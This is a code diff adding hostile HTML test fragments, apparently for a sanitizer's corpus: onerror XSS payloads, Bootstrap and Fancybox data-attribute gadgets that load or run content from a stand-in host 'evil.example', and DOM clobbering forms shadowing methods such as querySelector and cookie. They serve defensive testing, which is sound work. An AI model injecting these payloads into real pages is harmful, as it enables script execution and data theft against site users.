@@ -180,6 +180,81 @@ const forged: Readonly<Record<string, string>> = {
   'data with markup in them': `<div data-options='{"html":"<img src=x-broken: onerror=${hit}>"}'>Х</div>`,
 };
 
+const picture = `<img src=x-broken: onerror=${hit}>`;
+const written = picture.replaceAll('<', String.raw`\u003c`);
+const inEntities = picture.replaceAll('<', '&lt;').replaceAll('>', '&gt;');
+
+/** Data that libraries of the template, Bootstrap 3.0.0 and Fancybox 3.5.7, take for orders when something is pressed. */
+export const gadgets: Readonly<Record<string, string>> = {
+  'window of Bootstrap that loads another host': `<a data-toggle="modal" data-target="#gadget" href="${evil}/x.html">Х</a><div class="modal" id="gadget"></div>`,
+  'window of Bootstrap that loads what it is told': `<button data-toggle="modal" data-target="#gadget2" data-remote="${evil}/x.html">Х</button><div class="modal" id="gadget2"></div>`,
+  'window of Bootstrap whose place is markup': `<button data-toggle="modal" data-target="${picture}">Х</button>`,
+  'window of Bootstrap whose address is markup': `<a data-toggle="modal" href="${picture}">Х</a>`,
+  'tab of Bootstrap whose pane is markup': `<a data-toggle="tab" data-target="${picture}">Х</a>`,
+  'tab of Bootstrap whose address is markup': `<ul><li><a data-toggle="tab" href="${picture}">Х</a></li></ul>`,
+  'fold of Bootstrap whose parent is markup': `<a data-toggle="collapse" data-target="#x" data-parent="${picture}">Х</a>`,
+  'fold of Bootstrap whose target is markup': `<a data-toggle="collapse" data-target="${picture}">Х</a>`,
+  'list of Bootstrap whose place is markup': `<a data-toggle="dropdown" data-target="${picture}">Х</a>`,
+  'button of Bootstrap with words of its own': `<button data-toggle="button" data-loading-text="${picture}">Х</button>`,
+  'notice of Bootstrap that closes markup': `<button data-dismiss="alert" data-target="${picture}">Х</button>`,
+  'pictures of Bootstrap that turn to markup': `<a data-slide="next" data-target="${picture}">Х</a><a data-slide-to="1" href="${picture}">Х</a>`,
+  'pictures of Bootstrap that turn by themselves': '<div class="carousel" data-ride="carousel" data-interval="1"></div>',
+  'hint of Bootstrap in a place that is markup': `<a data-toggle="tooltip" data-container="${picture}" data-viewport="${picture}">Х</a>`,
+  'hint of Bootstrap with content': `<a data-toggle="popover" data-content="${picture}">Х</a>`,
+  'spy of Bootstrap': `<div data-spy="scroll" data-target="${picture}" data-offset="1">Х</div>`,
+  'words of a picture': `<a data-fancybox="g" href="/x.svg" data-caption="${picture}">Х</a>`,
+  'words of a picture in brackets, a sign in quotes': `<a data-fancybox="g" href="/x.svg" data-caption="[<img src=x-broken: title='>' onerror=${hit}>">Х</a>`,
+  'words of a picture in entities': `<a data-fancybox="g" href="/x.svg" data-caption="${inEntities.replaceAll('&', '&amp;')}">Х</a>`,
+  'page of another host in Fancybox': `<a data-fancybox data-type="ajax" data-src="${evil}/x.html">Х</a>`,
+  'page of this host in Fancybox': '<a data-fancybox data-type="ajax" data-src="/upload/review.html">Х</a>',
+  'markup in Fancybox': `<a data-fancybox data-type="html" data-src="${picture}">Х</a>`,
+  'frame in Fancybox': `<a data-fancybox data-type="iframe" data-src="${evil}/">Х</a>`,
+  'frame in Fancybox, by its link': `<a data-fancybox data-type=" IFRAME " href="${evil}/">Х</a>`,
+  'part of a page in Fancybox that is markup': `<a data-fancybox data-type="inline" data-src="${picture}">Х</a>`,
+  'picture of another host in Fancybox': `<a data-fancybox="g" href="${evil}/x.png">Х</a>`,
+  'picture of another host in a gallery': `<a class="detail-gallery-big__link" href="${evil}/x.png">Х</a>`,
+  'picture of another host in Fancybox, by a class': `<a class="fancy popup_link" href="//evil.example/x.png">Х</a>`,
+  'set of pictures in Fancybox': `<a data-fancybox="g" href="/x.svg" data-srcset="${evil}/x.png 1x">Х</a>`,
+  'small picture in Fancybox': `<a data-fancybox="g" href="/x.svg" data-thumb="${evil}/x.png">Х</a>`,
+  'film in Fancybox whose address is markup': `<a data-fancybox="g" href='/x"><img src=x-broken: onerror=${hit}>.mp4'>Х</a>`,
+  'film in Fancybox whose address is an attribute': `<a data-fancybox="g" href='/x" onerror="${hit}" x=".mp4'>Х</a>`,
+  'options of Fancybox: a page': `<a data-fancybox data-options='{"type":"ajax","src":"${evil}/x.html"}'>Х</a>`,
+  'options of Fancybox: markup': `<a data-fancybox data-options='{"type":"html","src":"${written}"}'>Х</a>`,
+  'options of Fancybox: a frame of markup': `<a data-fancybox="g" href="/x.svg" data-options='{"baseTpl":"${written}"}'>Х</a>`,
+  'options of Fancybox as attributes': `<a data-fancybox="g" href="/x.svg" data-base-tpl="${written}" data-spinner-tpl="${picture}" data-parent-el="${picture}">Х</a>`,
+  'options of Fancybox’s requests': `<a data-fancybox data-ajax='{"settings":{"url":"${evil}/x.html","dataType":"script"}}'>Х</a>`,
+  'call of Fancybox from elsewhere': '<button data-fancybox-trigger="g" data-fancybox-index="1">Х</button>',
+  'rule of a field that asks another host': `<input data-rule-remote='{"url":"${evil}/x.js","dataType":"script"}'>`,
+  'words of a rule with markup in them': `<input data-msg-required="${picture}">`,
+  'parameter of a popup that leads to another host':
+    '<span data-event="jqm" data-name="x" data-param-url="%2F%2Fevil.example%2Fx">Х</span>',
+  'address of another host in data': `<span data-href="${evil}/" data-file="//evil.example/x.php" data-url="https:evil.example">Х</span>`,
+  'data with markup in signs of JSON': `<div data-params='{"a":["${written}"]}'>Х</div>`,
+  'data with markup in a key': `<div data-params='{"${written}":1}'>Х</div>`,
+  'data with markup in signs of signs': `<div data-params='{"a":"${written.replaceAll('\\', '\\\\')}"}'>Х</div>`,
+  'data that are nearly JSON': `<div data-params="{'a':'${written}'}">Х</div>`,
+  'background that waits for a lazy loader': `<div class="lazy" data-src="${evil}/x.png" data-bg="${evil}/y.png">Х</div>`,
+};
+
+/** Fields take the names of their form's own methods, also of those by which a form is cleaned. */
+export const clobbering: Readonly<Record<string, string>> = Object.fromEntries([
+  ...[
+    ...['localName', 'getAttribute', 'getAttributeNames', 'classList', 'matches', 'removeAttribute', 'hasAttribute', 'querySelector'],
+    ...['querySelectorAll', 'elements', 'tagName', 'nodeType', 'namespaceURI', 'firstChild', 'childNodes', 'content', 'ownerDocument'],
+  ].map((name) => [
+    `form that hides its ${name}, named for the page’s own`,
+    `<form name="querySelector" onclick="${hit}" data-vitrina="live"><input name="${name}"></form>`,
+  ]),
+  ...['getElementById', 'createElement', 'cookie'].map((name) => [
+    `page’s ${name}, behind a form that hides its name`,
+    `<form name="${name}"><input name="localName"></form>`,
+  ]),
+  ...['grecaptcha', 'map', 'trackBarOptions', 'obSkuQuantys', 'smartFilter', 'obMaxPredictions'].map((name) => [
+    `name that the template asks for: ${name}`,
+    `<a id="${name}"></a><form name="${name}"></form>`,
+  ]),
+]);
+
 /** What never ends: the rest of the answer becomes part of it. */
 const open: Readonly<Record<string, string>> = {
   'attribute that never ends': `<img src="${evil}/?`,
@@ -198,6 +273,6 @@ const open: Readonly<Record<string, string>> = {
 const named = (group: Readonly<Record<string, string>>): HostileFragment[] => Object.entries(group).map(([name, html]) => ({ name, html }));
 
 export const corpus: readonly HostileFragment[] = [
-  ...[running, addresses, looks, mutating, forged].flatMap(named),
+  ...[running, addresses, looks, mutating, forged, gadgets, clobbering].flatMap(named),
   ...named(open).map((fragment) => ({ ...fragment, isOpen: true }) as const),
 ];
